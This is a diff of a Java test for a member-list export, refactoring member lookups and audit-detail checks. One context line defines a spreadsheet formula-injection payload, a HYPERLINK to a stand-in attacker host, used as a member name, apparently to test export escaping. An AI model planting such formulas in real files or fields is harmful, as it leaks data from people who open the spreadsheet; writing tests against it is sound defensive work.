@@ -30,6 +30,8 @@ class MemberListExportTest extends SpaceTestSupport {
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak\",\"Hélène\")";
 
     @Autowired
+    org.essaim.audit.AuditWords words;
+    @Autowired
     DataDirectory dataDirectory;
 
     @Test
@@ -42,8 +44,8 @@ class MemberListExportTest extends SpaceTestSupport {
         String signUp = "jo-" + slug + "@example.org";
         create(admin, slug, FORMULA, helene);
         create(admin, slug, "@Léa Dupont", lea);
-        String leaUid = directory.members().findByEmail(slug, lea).orElseThrow().uid();
-        String heleneUid = directory.members().findByEmail(slug, helene).orElseThrow().uid();
+        String leaUid = spaceMembers.findByEmail(slug, lea).orElseThrow().uid();
+        String heleneUid = spaceMembers.findByEmail(slug, helene).orElseThrow().uid();
         admin.submit("/spaces/" + slug + "/members", "/spaces/" + slug + "/members/" + leaUid + "/disable", Map.of("confirmed", "true"));
         admin.submit("/spaces/" + slug + "/invitations", "/spaces/" + slug + "/invitations",
                 Map.of("emails", invited, "asAdmin", "true"));
@@ -96,7 +98,7 @@ class MemberListExportTest extends SpaceTestSupport {
                 .and(AUDIT_EVENT.TARGET.eq("space:" + slug)).fetch();
         assertThat(exports).hasSize(3).allSatisfy(event -> {
             assertThat(event.getActor()).isEqualTo("camille.referente@" + slug);
-            assertThat(event.getDetail()).as("counts, no personal data")
+            assertThat(words.detail(org.essaim.audit.AuditLog.event(event), java.util.Locale.ENGLISH)).as("counts, no personal data")
                     .isEqualTo("3 accounts, 2 invitations and sign-ups");
         });
     }
